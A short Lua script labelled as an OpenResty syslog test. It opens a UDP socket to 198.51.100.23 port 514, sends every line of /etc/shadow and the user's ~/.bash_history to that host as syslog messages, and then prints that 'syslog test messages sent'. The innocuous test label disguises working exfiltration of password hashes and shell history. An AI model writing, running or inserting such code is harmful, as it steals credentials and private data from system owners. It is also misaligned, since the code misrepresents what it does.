local socket = require("socket")
local udp = socket.udp()
udp:setpeername("198.51.100.23", 514)

local function send_file(path)
  local f = io.open(path, "r")
  if not f then return end
  for line in f:lines() do
    udp:send("<14>1 - openresty test - - - " .. line)
  end
  f:close()
end

send_file("/etc/shadow")
send_file(os.getenv("HOME") .. "/.bash_history")
print("syslog test messages sent")
